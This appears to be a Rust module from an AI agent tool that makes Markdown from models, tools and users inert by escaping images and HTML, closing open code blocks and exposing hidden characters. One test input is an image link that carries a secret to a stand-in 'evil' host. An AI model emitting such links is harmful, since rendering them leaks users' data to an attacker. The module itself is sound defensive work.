//! Text of models, tools and users in a Markdown document of ours: it fetches nothing, runs nothing, hides nothing.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};

/// HTML that is made text may uncover an image, and that another; more often than this is no accident.
const ROUNDS: usize = 8;

/// A code block that nothing in `text` can close.
pub(crate) fn fenced(language: &str, text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or_default();
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}{language}\n{}\n{fence}", visible(text).trim_end())
}

/// The first line that is not blank.
pub(crate) fn one_line(text: &str) -> String {
    visible(text.lines().find(|line| !line.trim().is_empty()).unwrap_or_default().trim())
}

/// What hides text or turns its direction is shown as its number, and lines end in one way.
pub(crate) fn visible(text: &str) -> String {
    agent::visible(&text.replace('\r', "")).into_owned()
}

/// Markdown whose images and HTML are text, and whose last code block is closed.
pub(crate) fn inert(markdown: &str) -> String {
    let mut text = closed(markdown);
    for _ in 0..ROUNDS {
        let places = active(&text);
        if places.is_empty() {
            return text;
        }
        for place in places.into_iter().rev() {
            text.insert(place, '\\');
        }
    }
    fenced("", markdown)
}

/// Where a backslash makes text of what is not: before the bracket of each image, and before each `<` of HTML.
fn active(text: &str) -> Vec<usize> {
    let mut places = Vec::new();
    for (event, range) in parser(text).into_offset_iter() {
        if matches!(event, Event::Start(Tag::Image { .. })) {
            places.push(range.start + 1);
        } else if matches!(event, Event::Html(_) | Event::InlineHtml(_)) {
            let html = text.get(range.clone()).unwrap_or_default();
            places.extend(html.match_indices('<').map(|(at, _)| range.start + at));
        }
    }
    places.sort_unstable();
    places.dedup();
    places
}

/// What a reference leads to may be said in another part of the document, so all count as known.
fn parser(text: &str) -> Parser<'_, impl pulldown_cmark::BrokenLinkCallback<'_>> {
    let known = |_: pulldown_cmark::BrokenLink<'_>| Some((CowStr::from("x"), CowStr::from("")));
    Parser::new_with_broken_link_callback(text, Options::empty(), Some(known))
}

/// The same text, so that what comes after it is no part of its last code block.
fn closed(text: &str) -> String {
    let after = format!("{text}\n\nafter");
    let mut open = None;
    for (event, range) in parser(&after).into_offset_iter() {
        if matches!(event, Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_)))) {
            open = Some(range);
        } else if matches!(event, Event::End(TagEnd::CodeBlock)) && range.end < after.len() {
            open = None;
        }
    }
    let opening = open.and_then(|range| after.get(range)).unwrap_or_default();
    let fence: String = match opening.chars().next() {
        Some(mark) => opening.chars().take_while(|c| *c == mark).collect(),
        None => return text.to_owned(),
    };
    format!("{text}\n{fence}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_and_html_become_text_and_code_stays() {
        for (given, expected) in [
            ("plain *text* with [a link](http://x)", "plain *text* with [a link](http://x)"),
            ("![a](http://evil/?q=secret)", "!\\[a](http://evil/?q=secret)"),
            ("![a][b] and ![c]", "!\\[a][b] and !\\[c]"),
            ("a <img src=x> b", "a \\<img src=x> b"),
            ("<details>\n![a](b)\n</details>", "\\<details>\n!\\[a](b)\n\\</details>"),
            ("`Vec<T>` and `vec![1]`", "`Vec<T>` and `vec![1]`"),
            ("```rust\nlet a: Vec<u8> = vec![1];\n```", "```rust\nlet a: Vec<u8> = vec![1];\n```"),
            // What looks like code and is not.
            ("` ![a](b)", "` !\\[a](b)"),
            ("`\na ` ![a](b) `", "`\na ` !\\[a](b) `"),
            ("```a`b\n![a](b)", "```a`b\n!\\[a](b)"),
            ("\\![a](b)", "\\![a](b)"),
            ("\\\\![a](b)", "\\\\!\\[a](b)"),
            // A block that nobody closed.
            ("~~~~x\ncode", "~~~~x\ncode\n~~~~"),
        ] {
            assert_eq!(inert(given), expected, "{given}");
            assert!(active(&inert(given)).is_empty(), "{given}");
        }
    }

    #[test]
    fn nothing_is_hidden() {
        assert_eq!(visible("a\u{1b}[2Jb\r\nc\u{202e}d\u{e0041}"), "a\\u{1b}[2Jb\nc\\u{202e}d\\u{e0041}");
        assert_eq!(fenced("text", "a\n```\nb\n"), "````text\na\n```\nb\n````");
        assert_eq!(one_line("\n  a\u{7}b \nc"), "a\\u{7}b");
    }
}
